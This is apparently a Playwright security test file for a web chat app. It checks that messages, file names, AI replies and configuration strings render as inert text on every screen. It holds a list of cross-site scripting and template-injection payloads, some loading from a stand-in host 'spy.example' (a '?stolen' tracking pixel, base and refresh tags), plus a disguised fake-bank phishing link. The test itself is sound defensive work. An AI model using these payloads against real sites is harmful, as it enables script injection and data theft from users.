import type { Page } from "@playwright/test";
import { callAs } from "../support/browser/conversation";
import { openMenuEntry } from "../support/browser/sharing";
import { expect, signIn, test } from "../support/browser/test";

// Each payload would set `window.ran` or load something from another server if any part of the app treated it as more than text.
const elsewhere = "https://spy.example";
const payloads = [
  `<script>window.ran=1</script>`,
  `<img src=x onerror="window.ran=1">`,
  `<svg onload="window.ran=1"><style>@import '${elsewhere}/a.css'</style></svg>`,
  `"><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `![words](${elsewhere}/pixel.png?stolen) <${elsewhere}>`,
  `[click](javascript:window.ran=1) [this](data:text/html,<script>opener.ran=1</script>)`,
  `<link rel=prefetch href="${elsewhere}/p"><base href="${elsewhere}/"><meta http-equiv=refresh content="0;${elsewhere}">`,
  `{{constructor.constructor('window.ran=1')()}} \${window.ran=1} ';window.ran=1;//`,
];
const all = payloads.join("\n\n").slice(0, 600);

/** Markdown marks that would be 20,000 quotes within each other. They are shown unchanged, and the reply after them as usual. */
const manyQuotes = ">".repeat(20_000);

/** A link that does not say where it leads, a footnote, and a link into the app. */
const disguised = `[Your bank](${elsewhere}/login) knows.[^1] [Log out](#/login)\n\n[^1]: As it says.`;

/** Returns a check that the page has sent nothing to other servers and that no payload ran in it. */
function watch(page: Page) {
  const foreign: string[] = [];
  page.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^http/.test(protocol) && !host.startsWith("localhost")) foreign.push(request.url());
  });
  page.on("dialog", (dialog) => foreign.push(`a dialog: ${dialog.message()}`));
  return async () => {
    const ran = await page.evaluate(() => "ran" in window);
    expect({ foreign, ran, links: await links(page) }).toEqual({ foreign: [], ran: false, links: [] });
  };
}

const links = (page: Page) =>
  page
    .locator("a[href], iframe, object, embed, base, form[action]")
    .evaluateAll((elements) =>
      elements
        .map((element) => element.outerHTML)
        .filter((html) => /^<(?!a )|href="(?:"|(?:javascript|data|vbscript):)/i.test(html)),
    );

test("no text of a person, a file or the AI runs as code or loads anything, on any screen", async ({
  page,
  account,
  newAccount,
  request,
  fakeAi,
}) => {
  const call = <Answer>(path: string, body: object) => callAs<Answer>(request, account, path, body);
  const headers = { authorization: `Bearer ${account.token}` };
  fakeAi.script = payloads.join("\n\n");
  await request.put("/api/profile", { headers, data: { displayName: payloads[1] }, failOnStatusCode: true });
  const file = { name: `${payloads[1]}.txt`, mimeType: "text/html", buffer: Buffer.from(`See ${all}`) };
  const { fileId } = await (await request.post("/api/upload", { headers, multipart: { file } })).json();
  const { conversationId: id } = await call<{ conversationId: string }>("/api/grok", {
    projectName: payloads[1],
    topic: "childhood",
    questionAnswers: [{ question: all, answer: all }],
    fileId,
  });
  await call("/api/grok", { conversationId: id, message: all });
  for (const reply of [manyQuotes, "All is **well**.", disguised]) {
    fakeAi.script = reply;
    await call("/api/grok", { conversationId: id, message: "And now?" });
  }
  await call("/api/add-note", { conversationId: id, content: all });
  await call(`/api/share/mark/${id}`, {});
  const check = watch(page);

  await signIn(page, account, `/conversation/${id}`);
  await expect(page.getByText("window.ran=1").first()).toBeVisible();
  await expect(page.getByText("click").first()).toBeVisible();
  await expect(page.locator("strong", { hasText: "well" })).toBeVisible();
  await expect(page.getByText(manyQuotes, { exact: true })).toBeVisible();
  await check();
  const last = page.getByRole("article").filter({ hasText: "Your bank" });
  await expect(last.getByRole("link")).toHaveText(["Your bank (spy.example)"]);
  await expect(last.getByText("As it says.", { exact: true })).toBeVisible();

  await openMenuEntry(page, "History");
  const row = page.getByRole("main").getByRole("listitem");
  await row
    .getByRole("button", { name: /preview/i })
    .first()
    .click();
  await expect(row.getByText("window.ran=1").first()).toBeVisible();
  await check();
  await page.keyboard.press("Escape");

  await openMenuEntry(page, "Search");
  await page.getByRole("searchbox").fill("window.ran");
  await expect(page.getByRole("dialog").getByText("You:").first()).toBeVisible();
  await check();
  await page.keyboard.press("Enter");
  await page.waitForURL(/search=window\.ran/);
  await check();

  await openMenuEntry(page, "What I share");
  await expect(page.getByRole("dialog").getByText("window.ran=1").first()).toBeVisible();
  await check();

  await signIn(page, await newAccount());
  await page.goto(`/#/share/post/${id}`);
  await expect(page.getByText("window.ran=1").first()).toBeVisible();
  await check();
});

test("texts of the configuration do not run as code either", async ({ page, account }) => {
  const spoil = (value: unknown): unknown => {
    // Values that are not labels: colours, sizes, empty texts, and the three levels.
    const isRule = (text: string) => /^#|^\d|^$|^(Beginner|Intermediate|Advanced)$/.test(text);
    if (typeof value === "string") return isRule(value) ? value : payloads[1];
    if (Array.isArray(value)) return value.map(spoil);
    if (typeof value !== "object" || value === null) return value;
    const spoilt = Object.entries(value).map(([name, field]) => [name, name === "id" ? field : spoil(field)]);
    return Object.fromEntries(spoilt);
  };
  for (const name of ["flexifeatures.json", "flexiconfig.json"]) {
    await page.route(`**/${name}*`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: spoil(await response.json()) });
    });
  }
  const check = watch(page);
  await page.goto("/#/login");
  await expect(page.getByText("window.ran=1").first()).toBeVisible();
  await check();
  await signIn(page, account);
  await expect(page.getByRole("main").getByText("window.ran=1").first()).toBeVisible();
  await check();
});
